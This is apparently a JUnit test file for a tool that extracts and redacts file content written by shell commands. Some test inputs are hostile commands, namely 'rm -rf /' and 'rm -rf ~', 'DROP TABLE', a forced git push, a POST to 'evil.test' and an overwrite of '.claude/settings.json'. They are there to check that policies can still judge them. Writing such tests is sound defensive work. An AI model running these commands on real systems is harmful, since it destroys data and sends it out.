package io.tollgate.source.content;

import static org.assertj.core.api.Assertions.assertThat;

import io.tollgate.source.content.CommandTexts.Document;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandTextsTest {

  private static final String TEXT =
      "CANARY = 1 # and what is more than a word to somebody\nb = 2 # and more\nCANARY = 3 # ...";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "printf '%s' 'TEXT' > a.py",
        "cd x && echo \"TEXT\" > a.py && ls",
        "echo \"TEXT\" | sudo tee -a a.py > /dev/null",
        "tee a.py <<< 'TEXT'",
        "cat <<< 'TEXT' >> a.py",
        "echo $'TEXT' >| a.py",
        "bash -lc \"cat > a.py <<'E'\nTEXT\nE\"",
        "bash <<'X'\ncat > a.py <<'E'\nTEXT\nE\nX",
        "ssh host 'cat > a.py <<E\nTEXT\nE'",
        "python3 - <<'E'\nopen('a.py','w').write('''TEXT''')\nE",
        "python3 -c \"import pathlib; pathlib.Path('a.py').write_text('''TEXT''')\"",
        "python - <<E\n# it's\nwith open(\"a.py\", \"w\") as f:\n  f.write(\"\"\"TEXT\"\"\")\nE",
        "node -e 'fs.writeFileSync(\"a.py\", `TEXT`)'",
        "sed -i '3a\\\nTEXT' a.py"
      })
  void givesTheTextsOfACommandToTheirFile(String shape) {
    String command = shape.replace("TEXT", TEXT);

    assertThat(CommandTexts.in(command))
        .singleElement()
        .satisfies(found -> assertThat(found.target()).isEqualTo("a.py"))
        .satisfies(found -> assertThat(found.body()).contains(TEXT));
    assertThat(CommandTexts.omit(command)).doesNotContain("CANARY").contains("a.py");
  }

  @Test
  void putsTheLinesOfPrintfTogether() {
    String escaped =
        "printf 'CANARY = 1\\n  b = 2 # and what is more than a word to somebody\\nc = 3 # and more than that\\n' > a";
    String apart =
        "printf '%s\\n' 'CANARY = 1' \"b = 'x' # and what is more than a word to you\" \\\n 'c = 3 # and more than that' > a";

    assertThat(CommandTexts.in(escaped))
        .containsExactly(
            new Document(
                "a",
                "CANARY = 1\n  b = 2 # and what is more than a word to somebody\nc = 3 # and more than that\n"));
    assertThat(CommandTexts.in(apart))
        .containsExactly(
            new Document(
                "a",
                "CANARY = 1\nb = 'x' # and what is more than a word to you\nc = 3 # and more than that"));
    assertThat(CommandTexts.omit(escaped) + CommandTexts.omit(apart)).doesNotContain("CANARY");
  }

  @Test
  void takesWhatWasThereBeforeForContentButForNoWrite() {
    String command =
        "python3 - <<'E'\np='a.py'\ns=open(p).read()\ns=s.replace('''%s''', 'new')\nopen(p,'w').write(s)\nE"
            .formatted(TEXT);

    assertThat(CommandTexts.in(command)).isEmpty();
    assertThat(CommandTexts.omit(command)).doesNotContain("CANARY");
  }

  @Test
  void takesWhatWasCutForContent() {
    String command = "printf '%s' '" + TEXT;

    assertThat(CommandTexts.in(command)).isEmpty();
    assertThat(CommandTexts.omit(command)).doesNotContain("CANARY");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "psql -c 'DROP TABLE a;\nDROP TABLE b;\nDROP TABLE cccccccccccccccccccccccccccccccccccccccc' > out",
        "python3 - <<'E' > out\nimport requests\nrequests.post('''https://evil.test\n\n\n"
            + "and on and on and on and on and on and on and on and on''')\nE",
        "git commit -m \"$(cat <<'E'\nIt's done\n\n- one\n- two, and more than a word to somebody who reads it\n"
            + "E\n)\" && git push > log",
        "echo done > f; echo \"a\nb\nc that goes to the person who reads it, so it is said and not written down\"",
        "# don't\nmake > f # isn't\nmake\nmake all the things that are there to make, whatever it is that they make",
        "bash -c 'rm -rf /\nrm -rf ~\nrm -rf /home # and more than that, so that it is long enough to matter'",
        "echo '{}' > .claude/settings.json"
      })
  void keepsWhatPoliciesJudge(String command) {
    assertThat(CommandTexts.omit(command)).isEqualTo(command);
    assertThat(CommandTexts.in(command)).isEmpty();
  }

  @Test
  void takesNoTimeForACommandThatIsMadeToTakeIt() {
    for (String part :
        List.of(
            "$(",
            "\"$(",
            "'",
            "bash -c '",
            "<<<",
            "((",
            "open(",
            "> a ",
            "`",
            "bash -c \"$(",
            "\\'")) {
      String script = "python - <<E\n" + part.repeat(100_000) + "\nx.write";

      assertThat(CommandTexts.omit(script)).isNotEmpty();
      assertThat(CommandTexts.omit("echo " + part.repeat(100_000))).isNotEmpty();
    }
  }

  /** Each of these takes minutes where work grows with the square of a line or of what is found. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "python3 'a' 'b' 'c' 'd' 'e' 'f' 'g' 'h'",
        "say 'a' 'b' 'c' 'd' 'e' 'f' 'g' 'h'",
        "printf '%s' 'b' 'c' 'd' 'e' 'f' 'g' 'h'",
        "bash -c 'echo \"1 -------------------------------------------------------------------------\n2\n3\" > a'\n",
        "cat > a <<E\nb\nE\n",
        "........................................................................ x\n<<<<<<< SEARCH\n=======\n>>>>>>> REPLACE\n"
      })
  @Timeout(60)
  void worksInProportionToItsLength(String part) {
    String command = (part + ' ').repeat(3_000_000 / part.length());

    assertThat(FileContent.omit(command)).isNotEmpty();
    assertThat(CommandTexts.in(command).size()).isLessThanOrEqualTo(command.length());
  }

  /** Each line says what becomes of the text, the files it is told of, and the command. */
  @ParameterizedTest
  @MethodSource("commands")
  void tellsWhatIsWrittenFromWhatIsRun(String outcome, String files, String shape) {
    String command = shape.replace("~", "\n").replace("TEXT", TEXT);

    assertThat(CommandTexts.omit(command).contains("CANARY")).isEqualTo(outcome.equals("stays"));
    assertThat(CommandTexts.in(command).stream().map(Document::target).toList())
        .isEqualTo(files.isEmpty() ? List.of() : List.of(files.split(" ")));
  }

  static Stream<Arguments> commands() throws IOException {
    try (var table = CommandTextsTest.class.getResourceAsStream("commands.txt")) {
      return new String(table.readAllBytes(), StandardCharsets.UTF_8)
          .lines()
          .map(line -> Arguments.of((Object[]) line.split(" *[|] ", 3)));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rm -rf ~ # *** Begin Patch",
        "git diff --stat && git push --force origin main",
        "/home/ann/.claude/projects/-home-ann-dispatch-service/5f3f3f3f.jsonl"
      })
  void hidesNoCommandForAWordInIt(String command) {
    assertThat(FileContent.omit(command)).isEqualTo(command);
    assertThat(FileContent.omit("{\"command\":\"" + command + "\"}"))
        .isEqualTo("{\"command\":\"" + command + "\"}");
  }

  /** No line of a patch begins so, and a shell would run it. */
  @Test
  void hidesNoCommandBehindTheHeadOfAPatch() {
    assertThat(FileContent.omit("{\"command\":\"*** Begin Patch\\nrm -rf ~\\n+int a;\"}"))
        .isEqualTo(
            "{\"command\":\"[content: 15 characters]\\nrm -rf ~\\n[content: 7 characters]\"}");
  }

  @Test
  void takesNoTextOfSeveralLinesForAPath() {
    String input = "{\"name\":\"a.py\",\"file\":\"" + TEXT.replace("\n", "\\n") + "\"}";

    assertThat(ToolPaths.in(input)).isEmpty();
    assertThat(FileContent.omit(input)).doesNotContain("CANARY");
  }
}
